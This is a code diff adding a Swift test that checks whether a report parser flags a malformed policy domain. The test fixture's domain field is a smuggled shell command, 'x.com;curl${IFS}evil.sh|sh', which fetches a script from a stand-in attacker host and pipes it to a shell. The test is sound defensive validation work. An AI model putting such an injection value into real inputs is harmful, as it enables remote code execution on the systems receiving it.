@@ -51,3 +51,15 @@ import Testing
         #expect(rejection(report(count: "1", begin: "-5"))?.code == .invalidValue)
     }
 }
+
+@Suite struct PolicyDomainShapeTests {
+    @Test func aPolicyDomainThatIsNoDomainNameIsKeptAndFlagged() throws {
+        let xml = SyntheticReport(
+            org: "X", reportID: "1", domain: "x.com;curl${IFS}evil.sh|sh", begin: 1_764_547_200,
+            rows: [.init("192.0.2.1", 1)]
+        ).xml
+        let report = try parse(xml)
+        #expect(report.header.policy.domain == "x.com;curl${ifs}evil.sh|sh")
+        #expect(report.diagnostics.contains { $0.code == .invalidDomain })
+    }
+}
